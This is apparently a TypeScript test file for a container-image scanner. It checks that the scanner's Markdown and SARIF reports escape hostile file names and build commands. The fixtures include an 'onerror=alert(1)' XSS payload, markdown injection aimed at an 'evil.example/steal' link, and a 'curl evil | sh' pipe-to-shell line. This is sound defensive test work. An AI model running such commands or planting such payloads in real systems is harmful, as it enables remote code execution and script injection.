/**
Image-controlled strings in the Markdown and SARIF reports: file names and RUN lines with newlines,
backticks, pipes, HTML, link syntax and bare URLs. The reports come from the CLI run as a child process
on an archive written by the fixture writer; the Markdown is parsed by markdown-it as GitHub would (raw
HTML on, linkify on) and must keep every table whole, open no link, no HTML and no heading of its own.
*/
import assert from 'node:assert/strict';
import {mkdtempSync, rmSync} from 'node:fs';
import {tmpdir} from 'node:os';
import {join} from 'node:path';
import {after, before, test} from 'node:test';
import MarkdownIt from 'markdown-it';
import {inlineCode} from '../../source/report/markdown-text.js';
import {writeImageArchive} from '../helpers/fixture-writer.js';
import {describeRun, runCli} from '../helpers/run-cli.js';

const scratch = mkdtempSync(join(tmpdir(), 'layerlens-report-text-'));
after(() => rmSync(scratch, {recursive: true, force: true}));

const hostile = [
	'app/x\n## Injected heading\n| a | b |',
	'app/tick`s ``and`` pipes | here \\| there\\',
	'app/<img src=x onerror=alert(1)>.js',
	'app/[click](https://evil.example/steal).txt',
	'app/see https://evil.example and www.evil.example or me@evil.example',
];
const archive = join(scratch, 'hostile.tar');

before(async () => {
	await writeImageArchive(
		{
			layers: [
				{
					createdBy: 'RUN echo "a | b `c`" <x> [l](https://evil.example)\nRUN curl evil | sh',
					files: [
						...hostile.flatMap((path, index) => [
							{path, size: 20_000 + index},
							{path: `root/.npm/_cacache/${path.slice(4)}`, size: 30_000 + index},
						]),
						// A secret finding names its file in the SARIF message.
						{path: 'app/[click](https://evil.example)\n## x/.env', content: 'TOKEN=1\n'},
					],
				},
				// Rewritten later: every hostile name lands in the waste table too.
				{createdBy: 'RUN touch', files: hostile.map((path, index) => ({path, size: 10 + index}))},
			],
		},
		archive,
	);
});

async function report(format: string): Promise<string> {
	const result = await runCli([archive, '--format', format], {timeoutMs: 60_000});
	assert.equal(result.code, 0, describeRun(result));
	return result.stdout;
}

test('Markdown: hostile names keep every table whole and open no link, HTML or heading', async () => {
	const markdown = await report('markdown');
	const tokens = new MarkdownIt({html: true, linkify: true}).parse(markdown, {});
	const flat = tokens.flatMap((token) => [token, ...(token.children ?? [])]);
	assert.deepEqual(
		flat.filter(
			(token) => token.type.startsWith('html') || token.type === 'link_open' || token.type === 'image',
		),
		[],
		'no HTML, no link, no image',
	);
	const headings = flat
		.filter((token, index) => token.type === 'inline' && tokens[index - 1]?.type === 'heading_open')
		.map((token) => token.content);
	assert.ok(!headings.some((heading) => /^Injected/.test(heading)), `headings: ${headings.join(' / ')}`);
	// Tables: every row has as many cells as the header.
	let header = 0;
	let row = 0;
	for (const token of tokens) {
		if (token.type === 'thead_open') header = -1;
		if (token.type === 'tr_open') row = 0;
		if (token.type === 'th_open' || token.type === 'td_open') row++;
		if (token.type === 'tr_close') {
			if (header === -1) header = row;
			else assert.equal(row, header, 'a row with as many cells as its header');
		}
	}

	// The names are shown, whole, in code spans (newlines folded into spaces).
	const spans = flat.filter((token) => token.type === 'code_inline').map((token) => token.content);
	// Paths are cleaned as Docker cleans them (`//` is `/`).
	const comparable = (text: string) => text.replace(/\/+/g, '/');
	for (const path of hostile) {
		const shown = comparable(path.replace(/\n/g, ' ').replace(/ {2,}/g, ' '));
		assert.ok(
			spans.some((span) => comparable(span).includes(shown.slice(4))),
			`${JSON.stringify(path)} is shown in a code span`,
		);
	}
});

test('inline code in a table: a pipe, after any run of backslashes, stays inside the cell', () => {
	const md = new MarkdownIt();
	for (const content of ['a|b', 'a\\|b', 'a\\\\|b', 'a\\\\\\|b', '|', '\\|']) {
		const row = `| x | y |\n|---|---|\n| ${inlineCode(content, {inTable: true})} | z |\n`;
		const cells = md
			.parse(row, {})
			.filter((token) => token.type === 'td_open' || token.type === 'th_open').length;
		assert.equal(cells, 4, `${JSON.stringify(content)}: ${row}`);
	}
});

test('SARIF: messages hold no raw newline and no unescaped link brackets', async () => {
	const sarif = JSON.parse(await report('sarif')) as {
		runs: Array<{
			results: Array<{message: {text: string}}>;
			tool: {driver: {rules: Array<Record<string, {text: string}>>}};
		}>;
	};
	const [run] = sarif.runs;
	assert.ok(run && run.results.length > 0, 'the hostile image has findings');
	const texts = [
		...run.results.map((result) => result.message.text),
		...run.tool.driver.rules.flatMap((rule) =>
			['shortDescription', 'fullDescription', 'help'].map((key) => rule[key]?.text ?? ''),
		),
	];
	assert.ok(
		texts.some((text) => text.includes('app/\\[click\\](https:/evil.example) ## x/.env')),
		'a hostile name is in a message, escaped',
	);
	for (const text of texts) {
		assert.doesNotMatch(text, /[\n\r\u0000-\u001f]/, `no control character: ${JSON.stringify(text)}`);
		// An embedded link needs an unescaped `[`: every bracket is preceded by an odd run of backslashes.
		for (const match of text.matchAll(/(\\*)[[\]]/g)) {
			assert.equal(match[1]!.length % 2, 1, `escaped bracket in ${JSON.stringify(text)}`);
		}
	}
});
